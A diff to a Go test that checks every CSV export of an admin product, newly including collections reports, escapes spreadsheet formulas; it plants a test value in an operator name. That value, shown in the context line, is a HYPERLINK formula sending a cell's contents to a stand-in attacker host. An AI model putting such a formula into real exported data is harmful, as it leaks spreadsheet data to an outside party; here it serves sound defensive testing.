@@ -27,6 +27,10 @@ const formula = `=HYPERLINK("http://evil.example/?x="&A1,"open")`
 // the query that downloads it.
 type csvExport struct {
 	plant func(t *testing.T, env *servertest.Env, db *store.DB) url.Values
+	// noText: the export holds no text from the data (dates, bucket
+	// names, figures), so there is nothing to plant; the test still
+	// downloads it and checks no cell is a formula.
+	noText bool
 }
 
 // csvExports is every CSV the product writes, by route ("METHOD path").
@@ -51,6 +55,19 @@ var csvExports = map[string]csvExport{
 			t.Fatal(err)
 		}
 		return url.Values{"objectType": {"complaint"}}
+	}},
+	"GET /admin/api/collections/reports/par.csv":        {plant: nothingToPlant, noText: true},
+	"GET /admin/api/collections/reports/roll-rates.csv": {plant: nothingToPlant, noText: true},
+	"GET /admin/api/collections/reports/vintage.csv":    {plant: nothingToPlant, noText: true},
+	"GET /admin/api/collections/reports/efficiency.csv": {plant: nothingToPlant, noText: true},
+	"GET /admin/api/collections/reports/promises.csv":   {plant: nothingToPlant, noText: true},
+	"GET /admin/api/collections/reports/collectors.csv": {plant: func(t *testing.T, env *servertest.Env, db *store.DB) url.Values {
+		// A call today by an operator named with the formula.
+		if _, err := db.Exec(t.Context(), `INSERT INTO collection_contacts (order_id, order_no, user_id, operator_id, operator_name, channel, outcome, days_past_due, at)
+			SELECT id, order_no, user_id, 777, ?, 'call', 'reached', 1, ? FROM orders WHERE id = 81`, formula, env.Clock.Now().UnixMilli()); err != nil {
+			t.Fatal(err)
+		}
+		return nil
 	}},
 	"GET /admin/api/accounting/trial-balance.csv": {plant: plantBooks},
 	"GET /admin/api/accounting/journal.csv":       {plant: plantBooks},
@@ -92,6 +109,8 @@ func yearTo(env *servertest.Env) url.Values {
 	today := env.Clock.Now().In(env.App.Config.Market.Location())
 	return url.Values{"from": {today.AddDate(0, 0, -365).Format(time.DateOnly)}, "to": {today.Format(time.DateOnly)}}
 }
+
+func nothingToPlant(*testing.T, *servertest.Env, *store.DB) url.Values { return nil }
 
 // plantBooks adds an income account named with the formula (an
 // administrator names the chart's accounts) and posts to it today, with
@@ -177,7 +196,7 @@ func TestExports_EscapeFormulas(t *testing.T) {
 						found = found || cell == "'"+formula
 					}
 				}
-				if !found {
+				if !found && !exp.noText {
 					t.Errorf("the planted value is not in the export:\n%s", r.Body)
 				}
 			})
